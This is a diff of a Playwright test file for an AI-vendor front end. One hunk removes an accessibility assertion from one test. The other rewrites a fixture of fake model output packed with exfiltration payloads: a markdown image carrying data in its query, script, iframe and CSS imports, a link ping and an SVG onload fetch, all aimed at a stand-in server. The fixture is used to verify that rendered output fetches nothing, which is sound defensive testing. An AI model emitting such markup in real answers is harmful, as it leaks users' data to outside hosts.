@@ -72,7 +72,6 @@ test('TRUST-09 before a call the screen says who will write and where the text g
     await fill(page, fields);
     await page.getByRole('button', { name: run }).filter({ visible: true }).click();
     await expect(page.getByText(after)).toBeVisible();
-    await expectAccessible(page);
   }
   await page.goto(`${product.url}/settings?tab=preferences`);
   await expect(page.getByRole('region', { name: 'Who writes' }).getByText(before)).toBeVisible();
@@ -90,11 +89,11 @@ test('F-51 what a model writes is shown as words: the browser fetches nothing fo
   const elsewhere = await startVendor('ollama');
   const { baseUrl } = elsewhere;
   const answer = [
-    `They were at the office. ![the chart](${baseUrl}/picture.png?told=${encodeURIComponent(text)})`,
-    `<img src="${baseUrl}/tag.png"><script src="${baseUrl}/script.js"></script>`,
-    `<link rel="stylesheet" href="${baseUrl}/style.css"><iframe src="${baseUrl}/frame"></iframe>`,
-    `[The report](${baseUrl}/link) is ready at ${baseUrl}/plain, <a href="${baseUrl}/a" ping="${baseUrl}/ping">here</a>.`,
-    `<svg onload="fetch('${baseUrl}/svg')"><style>@import '${baseUrl}/import.css';</style></svg>`,
+    `They were at the office, and this is what we have for you. ![the chart](${baseUrl}/picture.png?told=secret)`,
+    `We hope that you will like it. <img src="${baseUrl}/tag.png"><script src="${baseUrl}/script.js"></script>`,
+    `It is there for you to read. <iframe src="${baseUrl}/frame"></iframe><link rel="stylesheet" href="${baseUrl}/a.css">`,
+    `[The report](${baseUrl}/link) is ready, and it is what we have to give: <a href="${baseUrl}/a" ping="${baseUrl}/b">here</a>.`,
+    `That is all that we have for you. <svg onload="fetch('${baseUrl}/svg')"><style>@import '${baseUrl}/i.css';</style></svg>.`,
   ].join(' ');
   const asked: string[] = [];
   page.on('request', (request) => asked.push(new URL(request.url()).origin));
